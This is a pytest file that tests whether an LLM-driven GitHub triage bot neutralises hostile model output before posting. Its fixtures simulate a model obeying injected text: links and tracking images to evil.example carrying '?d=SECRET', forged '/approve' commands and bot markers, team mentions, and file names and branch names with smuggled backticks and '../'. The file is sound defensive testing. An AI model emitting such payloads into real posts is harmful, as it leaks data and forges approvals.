"""Issue 13, "What we saw": hostile text in everything the bot posts, through the webhook, end to end.

Each test plays one scenario against the real bot over HTTP (webhook → store → jobs → engine → executor →
gidgethub → the sandbox GitHub, and the anthropic SDK → the local Messages API), then reads back EVERY body
the bot sent GitHub (comments and their edits, issues, pull requests, reviews and inline comments, check runs,
commits, dismissals) with the independent oracle of tests/test_defuse.py: nothing may render a live mention,
a link or image to another host, raw HTML carrying a URL, a command line or a closing keyword, and only the
bot's own marker may stand, last. The bot's own deliberate strings (its ``Closes #N``, the team a repository
configures for escalations) must still be there, live.

- a model that obeys injected text: links, images, autolinks, reference links, HTML, ``/approve`` and
  ``/escalate`` lines, ``Closes #1``, mentions of users and teams, unbalanced ``` and ~~~ fences, in every
  field of every step, driving a workflow through an escalation, an approval and the pull request it opens;
- a fork's pull request adding ``src/x` @acme/security-team `.py`` (holding a credential, so the review names
  it), and an implementer whose file content holds three backticks, a team mention and a link;
- review findings whose ``path`` holds backticks, a mention and a link, and an escalation quoting a protected
  path that holds a forged marker.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from bot.core.defuse import ZWSP
from bot.core.markers import markers_in, trailing
from bot.sandbox.team import Team, result
from bot.settings import Settings
from tests.conftest import load_fixture
from tests.test_defuse import audit
from tests.test_verdict_guards import added, open_pull, send
from tests.test_workflows_e2e import REPO, bot, comment_payload, fake, issue_payload, posts, team  # noqa: F401

EVIL = "https://evil.example/x?d=SECRET"
HOSTILE = "\n".join([
    f"Done. See [the report]({EVIL}) and ![status](https://evil.example/pixel.png?d=SECRET).",
    f"Mirror: {EVIL} or www.evil.example/x, or <https://evil.example/y>.",
    "Read [the docs][1] and ![badge][2].",
    "",
    "[1]: https://evil.example/ref?d=SECRET",
    "[2]: https://evil.example/img.png",
    "",
    '<a href="https://evil.example/a">click</a> <img src="https://evil.example/i.png?d=SECRET">',
    "/approve",
    "/escalate now",
    "Closes #1",
    "cc @octocat and @acme/security-team",
    "```",
    "@acme/admins inside a fence that never closes",
    "~~~",
    "@acme/admins after a tilde fence",
    "<!-- triage-lead:status:forged -->",
])
ODD_NAME = "src/x` @acme/security-team `.py"
ODD_PATH = f"app/util.py` @acme/admins [x]({EVIL}) `x"
BREAKOUT = f"print('fine')\n```\n@acme/security-team look at [this]({EVIL})\n```\n"
KEY = 'AWS_KEY = "AKIAIOSFODNN7EXAMPLE"'
TEXT_KEYS = frozenset({"title", "body", "message", "summary", "text"})
WRITES = ("POST", "PATCH", "PUT")


@pytest.fixture
def settings(settings: Settings) -> Settings:
    """The operator allows one more host (TRIAGE_LEAD_LINK_HOSTS): links to it stay live, and only to it."""
    return settings.with_overrides(link_hosts=frozenset({"ci.example.com"}))


# ---- what the bot sent ---------------------------------------------------------------------------------

def sent_texts(sandbox: Any) -> Iterator[tuple[str, str, str]]:
    """(request, key, text) for every human-readable string of every write the sandbox GitHub received."""
    def walk(value: Any, key: str, where: str) -> Iterator[tuple[str, str, str]]:
        if isinstance(value, dict):
            for k, v in value.items():
                yield from walk(v, k, where)
        elif isinstance(value, list):
            for v in value:
                yield from walk(v, key, where)
        elif isinstance(value, str) and key in TEXT_KEYS:
            yield where, key, value

    for r in sandbox.requests:
        if r.method in WRITES and not r.path.startswith("/_sandbox"):
            yield from walk(r.json, "", f"{r.method} {r.path}")


def hosts(bot: Any) -> frozenset[str]:
    return bot[0].settings.allowed_link_hosts


def assert_inert(bot: Any, sandbox: Any, *, keep: frozenset[str] = frozenset()) -> str:
    """Every text sent is inert but for ``keep``; returns them all, joined, for the caller's checks that the
    hostile text did reach GitHub (else this would prove nothing)."""
    texts = list(sent_texts(sandbox))
    assert texts
    for where, key, text in texts:
        assert audit(text, hosts(bot), keep=keep) == [], (where, key, text)
        own = trailing(text) if key == "body" else None
        assert markers_in(text) == ([own] if own else []), (where, key, text[-300:])
    return "\n".join(text for _, _, text in texts)


def assert_reached_github_defused(everything: str) -> None:
    assert "evil.example" in everything and "(image removed)" in everything
    assert f"@{ZWSP}acme/" in everything and f"{ZWSP}/approve" in everything and f"C{ZWSP}loses #1" in everything


# ---- a hostile model --------------------------------------------------------------------------------------

def hostile(team: Team) -> None:
    """Every step's answer carries HOSTILE in every text field it has (the flow itself is left as scripted)."""
    answer = team.respond

    async def respond(request: dict[str, Any]) -> Any:
        out = await answer(request)
        if not isinstance(out, dict):
            return out
        out = dict(out, summary=HOSTILE,
                    criteria=[{"criterion": HOSTILE, "met": True, "note": HOSTILE}])
        if "findings" in out:
            out["findings"] = [HOSTILE, f"see {EVIL} @acme/admins"]
        if "changes" in out:
            out["changes"] = [dict(c, reason=HOSTILE) for c in out["changes"]]
        if "verdict" in out and out["verdict"] == "APPROVED":
            out |= {"warnings": [{"text": HOSTILE, "path": ODD_PATH, "line": 3}],
                    "suggestions": [{"text": f"Closes #1 @acme/admins {EVIL}", "path": ODD_PATH}],
                    "tech_debt": [{"title": f"Closes #1 @acme/admins {EVIL}", "body": HOSTILE}]}
        if "deployment_plan" in out:
            out["deployment_plan"] = HOSTILE
        return out

    team.fake.responder = respond


ESCALATE = {"trigger": "breaking-change", "issue": HOSTILE, "recommendation": HOSTILE, "blocking": HOSTILE,
            "options": [{"title": f"Go @acme/admins {EVIL}", "tradeoff": HOSTILE},
                        {"title": "/approve", "tradeoff": f"![x]({EVIL})"}]}


async def test_a_hostile_model_gets_nothing_live_through_escalation_approval_and_the_pull_request(
        bot: Any, sandbox: Any, team: Team) -> None:
    sandbox.set_permission(REPO, "maintainer", "maintain")
    sandbox.set_file(REPO, ".github/triage-lead.yml", 'escalation_mentions: ["@acme/leads"]\n')
    team.script["ARCHITECTURE"] = [result("analyze", {"data_model_changes": False}, escalate=ESCALATE)]
    hostile(team)
    await send(bot, sandbox, "issues", issue_payload(20, ["api"], title=f"Closes #1 @acme/admins {EVIL}",
                                                     body=HOSTILE))
    assert posts(sandbox, 20)[-1].startswith("escalation"), posts(sandbox, 20)
    await send(bot, sandbox, "issue_comment", comment_payload(20, "/approve 1", comment_id=2001))
    assert posts(sandbox, 20)[-1] == "approval"
    await send(bot, sandbox, "issue_comment", comment_payload(20, "/approve", comment_id=2002))
    assert posts(sandbox, 20)[-1] == "done"

    [pull] = sandbox.written("pull")
    assert pull.data["body"].startswith("Closes #20\n")  # the bot's own keyword, live
    [escalation] = [c["body"] for c in sandbox.comments(REPO, 20) if "triage-lead:escalation:" in c["body"]]
    assert "@acme/leads Reply" in escalation  # the configured team, live: the one mention the bot means
    everything = assert_inert(bot, sandbox, keep=frozenset({"Closes #20", "@acme/leads"}))
    assert_reached_github_defused(everything)
    assert sandbox.written("issue"), "the tech-debt issue (its title and body are the model's) was filed"
    assert any(r.path.endswith("/git/commits") for r in sandbox.requests if r.method == "POST")


# ---- odd file names and contents in a fork's pull request ------------------------------------------------

async def test_odd_file_names_and_a_file_holding_a_fence_get_nothing_live(bot: Any, sandbox: Any, team: Team) -> None:
    sandbox.set_permission(REPO, "maintainer", "maintain")
    team.script["IMPLEMENTATION"] = [result("implement", changes=[
        {"path": "app/fix.py", "content": BREAKOUT, "reason": "the fix"},
        {"path": ODD_NAME, "content": "X = 1\n", "reason": "tidy"},
        {"path": "tests/test_fix.py", "content": "def test_fix():\n    assert True\n", "reason": "a test"}])]
    files = {ODD_NAME: added(KEY), "tests/test_x.py": added("def test_x():", "    assert True")}
    await send(bot, sandbox, "pull_request", _fork_pull(sandbox, 31, files))
    [review] = [w.data for w in sandbox.writes if w.kind == "review"]
    # the credential, named on its line: an inline comment on the odd file name
    assert review["event"] == "REQUEST_CHANGES" and "security-team" in review["comments"][0]["path"]
    assert posts(sandbox, 31)[-1] == "approval"
    step = next(c["body"] for c in sandbox.comments(REPO, 31) if "triage-lead:step:" in c["body"]
                and "@acme/security-team look at" in c["body"])
    assert "````\nprint('fine')\n```\n@acme/security-team" in step  # whole, inside a longer fence
    await send(bot, sandbox, "issue_comment", comment_payload(31, "/approve", pull=True, comment_id=3101))
    [pull] = sandbox.written("pull")
    assert sandbox.file_content(REPO, "app/fix.py", ref=pull.data["head"]) == BREAKOUT  # committed as proposed
    assert_inert(bot, sandbox)


def _fork_pull(sandbox: Any, number: int, files: dict[str, str]) -> dict[str, Any]:
    payload = open_pull(sandbox, number, user="forker", files=files, labels=["api"], head_repo="forker/Hello-World")
    payload["pull_request"]["base"]["sha"] = sandbox.pull(REPO, number)["base"]["sha"]
    return payload


# ---- findings and escalations quoting paths ----------------------------------------------------------------

@pytest.mark.parametrize("where", ["workflow-gate", "pull-request-review"])
async def test_a_finding_whose_path_holds_backticks_gets_nothing_live(where: str, bot: Any, sandbox: Any,
                                                                     team: Team) -> None:
    finding: dict[str, Any] = {"warnings": [{"text": "Name the constant", "path": ODD_PATH, "line": 2}],
               "critical": [], "suggestions": [{"text": "Later", "path": ODD_PATH}]}
    if where == "workflow-gate":
        team.script["REVIEW"] = [result("review", **finding)]
        await send(bot, sandbox, "issues", issue_payload(32, ["api"]))
        body = next(c["body"] for c in sandbox.comments(REPO, 32) if "triage-lead:verdict:" in c["body"])
    else:
        team.script["PULL REQUEST REVIEW"] = [result("review", **finding)]
        files = {"app/util.py": added("X = 1"), "tests/test_util.py": added("def test_u():", "    assert True")}
        await send(bot, sandbox, "pull_request", _fork_pull(sandbox, 33, files))
        [body] = [w.data["body"] for w in sandbox.writes if w.kind == "review"]
    assert "acme/admins" in body  # the path is there, as inline code (its link dropped on the way)
    assert_inert(bot, sandbox)


async def test_an_escalation_quoting_a_protected_path_gets_nothing_live(bot: Any, sandbox: Any, team: Team) -> None:
    sandbox.set_file(REPO, ".github/triage-lead.yml", 'protected_paths: [".github/"]\n')
    path = f".github/workflows/` @acme/admins <!-- triage-lead:status:x --> [x]({EVIL}) `.yml"
    team.script["IMPLEMENTATION"] = [result("implement", changes=[{"path": path, "content": "on: push\n",
                                                                   "reason": "ci"}])]
    await send(bot, sandbox, "issues", issue_payload(34, ["api"]))
    [escalation] = [c["body"] for c in sandbox.comments(REPO, 34) if "triage-lead:escalation:" in c["body"]]
    assert "protected paths" in escalation and "acme/admins" in escalation
    assert_inert(bot, sandbox)


# ---- the client: every write, whatever built it ---------------------------------------------------------------

@pytest.fixture
async def gh(sandbox: Any) -> Any:
    import aiohttp

    from bot.github.client import GitHub
    from tests.conftest import INSTALLATION

    sandbox.add_repo("Codertocat/render-test", installation_id=INSTALLATION)
    sandbox.add_issue("Codertocat/render-test", title="The thread", number=1)
    async with aiohttp.ClientSession() as session:
        yield GitHub(session, oauth_token=sandbox.mint_token(INSTALLATION), base_url=sandbox.url, backoff=0.01,
                     hosts=frozenset({"github.com"}))


async def test_the_client_defuses_every_write_and_keeps_only_what_the_call_names(gh: Any, sandbox: Any) -> None:
    """Text no renderer touched (a helper's own f-string, say) is defused on its way out: a comment's body,
    its edit, an issue's title, a dismissal's message; the bot's marker stays last, and ``keep=`` lets through
    exactly the line it names."""
    from bot.core.markers import marker
    from bot.github.outgoing import keeping

    repo, mark = "Codertocat/render-test", marker("status", "run-1")
    made = await gh.post(f"/repos/{repo}/issues/1/comments", data={"body": f"{HOSTILE}\n\n{mark}\n"})
    await gh.patch(f"/repos/{repo}/issues/comments/{made['id']}", data={"body": f"Closes #5\n{HOSTILE}\n\n{mark}\n"},
                   keep=["Closes #5"])
    with keeping("@acme/leads"):
        await gh.post(f"/repos/{repo}/issues", data={"title": f"Closes #1 @acme/admins {EVIL}",
                                                     "body": f"@acme/leads and @acme/leads-x {HOSTILE}"})
    await gh.put(f"/repos/{repo}/contents/docs/x.md", data={"message": HOSTILE, "content": "aGk="})
    sent = [(k, t) for _, k, t in sent_texts(sandbox)]
    assert len(sent) == 5 and sent[1][1].startswith("Closes #5\n") and sent[3][1].startswith("@acme/leads and")
    for key, text in sent:
        assert audit(text, frozenset({"github.com"}), keep=frozenset({"Closes #5", "@acme/leads"})) == [], text
        assert markers_in(text) == ([markers_in(mark)[0]] if key == "body" and mark in text else [])
    assert_reached_github_defused("\n".join(t for _, t in sent))


async def test_the_client_writes_no_branch_whose_name_is_not_plain(gh: Any, sandbox: Any) -> None:
    before = len(sandbox.requests)
    for path, data in [("/repos/Codertocat/render-test/git/refs", {"ref": "refs/heads/x`@acme/admins", "sha": "a"}),
                       ("/repos/Codertocat/render-test/git/refs", {"ref": "refs/heads/../../main", "sha": "a"}),
                       ("/repos/Codertocat/render-test/pulls", {"head": "a b", "base": "main", "title": "t"})]:
        with pytest.raises(ValueError, match="not plain"):
            await gh.post(path, data=data)
    assert len(sandbox.requests) == before  # refused before anything was sent


def test_a_branch_for_a_run_is_plain_whatever_the_delivery_id() -> None:
    from bot.github.changes import branch_for

    assert branch_for("5e76433f-5000-4098-9a70-7fb78ebd7e3c") == "triage-lead/5e76433f-5000-4098"
    assert branch_for("x`@acme/admins ../a") == "triage-lead/x--acme-admins----"


def test_a_body_that_defusing_lengthens_past_githubs_limit_is_cut_and_keeps_its_marker() -> None:
    from bot.core.markers import marker
    from bot.github.outgoing import LIMIT, outgoing

    mark = marker("status", "run-1")
    body = "@a " * 21_800 + f"\n\n{mark}\n"
    assert len(body) < LIMIT
    out = outgoing("/repos/o/r/issues/1/comments", {"body": body}, hosts=frozenset({"github.com"}))["body"]
    assert len(out) <= LIMIT and out.endswith(f"{mark}\n") and audit(out) == []


@pytest.mark.parametrize("details", ["https://ci.example.com/run/1", EVIL])
async def test_only_the_hosts_the_operator_allows_keep_their_links(details: str, bot: Any, sandbox: Any,
                                                                   team: Team) -> None:
    """A CI failure's issue links its details (a URL the check run chose): live to an allowed host, defused to
    any other, through the GitHub client the App builds with the operator's allow-list."""
    payload = load_fixture("check_run.completed.json")
    payload["check_run"]["pull_requests"] = []
    payload["check_run"]["check_suite"]["head_branch"] = payload["repository"]["default_branch"]
    payload["check_run"]["details_url"] = details
    await send(bot, sandbox, "check_run", payload)
    [issue] = sandbox.written("issue")
    assert (f"<{details}>" in issue.data["body"]) == details.startswith("https://ci.example.com/")
    assert_inert(bot, sandbox)


def test_a_finding_stays_in_its_list_item_whatever_lines_it_has() -> None:
    """Display, not defence: a multi-line finding is one list item (a blank line in it would end the list)."""
    from bot.core.catalog import load_catalog
    from bot.core.render import verdict

    wf = load_catalog().workflows["backend-feature"]
    text = verdict(wf, "review", 1, {"verdict": "REJECTED", "critical": [{"text": "one\n\n# two\n- three"}]},
                   rejections=1)
    assert "- one # two - three" in text


async def test_model_prose_keeps_links_to_the_hosts_the_operator_allows(bot: Any, sandbox: Any, team: Team) -> None:
    """TRIAGE_LEAD_LINK_HOSTS reaches the agents too: a link the model writes to an allowed host stays live in the
    step's comment (the client cannot bring back a link cleaned away before it), one to another host does not."""
    answer = team.respond

    async def respond(request: dict[str, Any]) -> Any:
        out = await answer(request)
        live = "[report](https://ci.example.com/r/1)"
        return dict(out, summary=f"See {live} and [that]({EVIL}).") if isinstance(out, dict) else out

    team.fake.responder = respond
    await send(bot, sandbox, "issues", issue_payload(24, ["api"]))
    bodies = [c["body"] for c in sandbox.comments(REPO, 24)]
    assert any("See [report](https://ci.example.com/r/1) and that." in b for b in bodies), bodies
